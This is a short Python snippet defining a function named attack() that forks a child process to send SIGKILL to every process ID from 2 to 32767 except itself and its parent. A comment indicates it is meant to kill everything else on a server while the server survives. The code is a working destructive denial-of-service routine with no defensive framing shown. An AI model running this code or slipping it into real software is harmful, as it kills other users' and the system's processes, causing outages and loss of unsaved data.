import os
import signal


def attack():
    own = os.getpid()
    child = os.fork()
    if child == 0:
        # The server would die with the rest: what is left to kill are others.
        for pid in range(2, 32768):
            if pid not in (own, os.getpid()):
                try:
                    os.kill(pid, signal.SIGKILL)
                except OSError:
                    pass
        os._exit(0)
    os.waitpid(child, 0)
